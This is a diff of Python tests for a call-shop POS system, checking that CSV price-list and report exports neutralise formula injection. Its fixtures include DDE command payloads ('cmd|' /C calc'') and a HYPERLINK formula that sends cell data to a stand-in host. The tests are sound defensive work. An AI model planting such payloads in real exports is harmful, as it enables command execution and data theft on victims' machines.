@@ -22,7 +22,7 @@ ROOT = Path(__file__).resolve().parents[2]
     ("cell", "written"),
     [
         ("=1+2", "'=1+2"),
-        ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+        ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
         ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
         ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
@@ -118,7 +118,7 @@ def test_price_list_export_neutralises_an_old_formula_like_country() -> None:
     legacy = list(entries_from_lines(['49\t=HYPERLINK("x")\t0.01\t0.2\t\t60\t60\t0\t0']))
     assert legacy[0].country == '=HYPERLINK("x")'
     text = write_price_list(legacy)
-    assert list(csv.reader(io.StringIO(text)))[1][0] == "'=HYPERLINK(\"x\")"
+    assert list(csv.reader(io.StringIO(text)))[1][0] == '\'=HYPERLINK("x")'
 
 
 def test_report_csv_neutralises_group_keys() -> None:
@@ -126,8 +126,9 @@ def test_report_csv_neutralises_group_keys() -> None:
     from callshop_pos.services.reports.period import GroupBy, PeriodReport, ReportRow
 
     row = ReportRow("=cmd|' /C calc'!A0", calls=1, revenue_minor=-5)
-    report = PeriodReport(date(2026, 1, 1), date(2026, 1, 31), next(iter(GroupBy)), (row,),
-                          ReportRow("total"))
+    report = PeriodReport(
+        date(2026, 1, 1), date(2026, 1, 31), next(iter(GroupBy)), (row,), ReportRow("total")
+    )
     rows = list(csv.reader(io.StringIO(report_csv(report))))
     assert rows[1][0] == "'=cmd|' /C calc'!A0"
     assert "-0.05" in rows[1]  # a negative amount stays a number
